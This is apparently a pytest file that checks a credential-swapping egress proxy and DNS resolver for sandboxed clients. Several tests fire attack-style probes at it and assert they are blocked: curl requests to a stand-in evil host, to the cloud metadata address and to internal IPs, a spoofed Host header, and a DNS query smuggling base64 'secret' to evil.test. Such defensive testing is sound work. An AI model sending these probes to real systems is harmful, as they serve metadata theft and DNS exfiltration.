"""Clients in a network namespace whose only ways out are the vault's listeners, and that know of no proxy."""

import asyncio
import contextlib
import ipaddress
import os
import shutil
from collections.abc import AsyncIterator

import pytest

from backend.domain.egress import Address
from backend.sandboxes.local import network
from backend.vault.dns import Resolver
from backend.vault.front import Front
from tests.vault.conftest import REAL, Box, reach, run
from tests.vault.servers import Server

PUBLIC = "198.51.100.7"
"""What names lead to as the sandbox is told; in truth they are on this machine's loopback."""


class Walled:
    """A namespace and its vault."""

    def __init__(self, box: Box, namespaces: network.Network) -> None:
        self._box = box
        self._namespaces = namespaces

    async def run(self, *command: str) -> tuple[int, str]:
        """Exit code and output of a program in there."""
        descriptors = (self._namespaces.user, self._namespaces.net)
        user, net = (f"/proc/{os.getpid()}/fd/{descriptor}" for descriptor in descriptors)
        env = {"PATH": os.environ["PATH"], "CURL_CA_BUNDLE": str(self._box.certificate)}
        return await run("nsenter", f"--user={user}", f"--net={net}", "--", *command, env=env, seconds=30)


@pytest.fixture
async def walled(box: Box, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Walled]:
    try:
        made = await asyncio.to_thread(network.make)
    except (OSError, TimeoutError) as error:
        pytest.skip(f"no network namespace here: {error}")
    async with contextlib.AsyncExitStack() as stack:
        stack.callback(made.close)
        if made.reason is not None:
            pytest.skip(f"nothing is led to the vault here: {made.reason}")

        async def resolve(host: str, port: int) -> list[Address]:
            box.asked.append(host)
            if host not in box.names:
                raise OSError(-2, "Name or service not known")
            return [ipaddress.ip_address(PUBLIC if port == 443 else "127.0.0.1")]  # the former asks for DNS

        monkeypatch.setattr(box.upstreams, "_resolve", resolve)
        box.open()
        session, loop = box.session(), asyncio.get_running_loop()
        for kind, sock in made.listeners.items():
            sock = stack.enter_context(sock.dup())
            sock.setblocking(False)
            if kind == "dns":
                transport, _ = await loop.create_datagram_endpoint(lambda: Resolver(session, box.upstreams), sock=sock)
                stack.callback(transport.close)
            else:
                transparent = kind == "transparent"
                server = await loop.create_server(
                    lambda it=transparent: Front(box.vault, session, transparent=it), sock=sock
                )
                stack.callback(server.close)
        yield Walled(box, made)


def resolving(server: Server) -> list[str]:
    """curl's option: it need not read the machine's resolv.conf, which may name no server."""
    return ["--resolve", f"api.example.test:{server.port}:{PUBLIC}"]


async def test_tls_is_led_to_the_vault(box: Box, server: Server, walled: Walled) -> None:
    stub = box.open(credentials={"TOKEN": REAL}, reachable=reach(server), allow=["api.example.test"])["TOKEN"]
    target = f"https://api.example.test:{server.port}/echo"
    code, output = await walled.run("curl", "-sS", *resolving(server), "-H", f"X-Key: {stub}", target)
    assert (code, stub in output) == (0, True)
    assert dict(server.requests[0]["headers"])["x-key"] == REAL
    assert {note.kind for note in box.notes()} == {"swapped"}


async def test_who_it_says_it_is_counts_and_not_the_address(box: Box, server: Server, walled: Walled) -> None:
    box.open(reachable=reach(server), allow=["api.example.test"])
    place = f"evil.example.test:{server.port}"
    command = ("curl", "-sS", "-k", "-o", os.devnull, "-w", "%{http_code} %header{x-vault-blocked}")
    code, output = await walled.run(*command, "--resolve", f"{place}:{PUBLIC}", f"https://{place}/")
    assert (code, output) == (0, "403 egress-policy")
    # A Host that is not the name of the connection's TLS, and one that leads inside.
    named = ("-H", f"Host: {place}", *resolving(server), f"https://api.example.test:{server.port}/")
    assert (await walled.run(*command, *named))[1] == "403 host-mismatch"
    for target in ("http://169.254.169.254/latest/", f"http://{PUBLIC}:1/", "http://10.1.2.3/"):
        assert (await walled.run(*command, target))[1].startswith("403"), target
    assert server.requests == []
    blocked = [(note.kind, note.host) for note in box.notes()]
    assert ("blocked", "evil.example.test") in blocked and ("blocked", "169.254.169.254") in blocked


async def test_plain_http_by_its_host(box: Box, plain_server: Server, walled: Walled) -> None:
    box.names["api.example.test"] = ["127.0.0.1"]
    box.open(reachable=reach(plain_server), allow=["api.example.test"])
    target = f"http://api.example.test:{plain_server.port}/size/3"
    assert await walled.run("curl", "-sS", *resolving(plain_server), target) == (0, "012")


async def test_names_by_the_vault_alone(box: Box, walled: Walled) -> None:
    if shutil.which("python3") is None:
        pytest.skip("python3 is not installed")
    box.names["api.example.test"] = [PUBLIC]
    box.open(allow=["api.example.test"])
    ask = (
        "import socket, struct, sys\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)\n"
        "q = b''.join(bytes([len(l)]) + l.encode() for l in sys.argv[2].split('.')) + b'\\0\\0\\1\\0\\1'\n"
        "s.sendto(struct.pack('!HHHHHH', 7, 256, 1, 0, 0, 0) + q, (sys.argv[1], 53))\n"
        "a = s.recv(512); print(a[3] & 15, socket.inet_ntoa(a[-4:]) if a[7] else '-')\n"
    )
    for asked in ("192.0.2.53", "127.0.0.1"):  # any server's address, and its own
        assert await walled.run("python3", "-c", ask, asked, "api.example.test") == (0, f"0 {PUBLIC}\n")
    assert await walled.run("python3", "-c", ask, "8.8.8.8", "c2VjcmV0.evil.test") == (0, "5 -\n")
    assert box.asked == ["api.example.test", "api.example.test"]  # the other was never asked for outside
    assert box.session().names_of == {PUBLIC: "api.example.test"}
    assert "DNS" in {note.method for note in box.notes()}
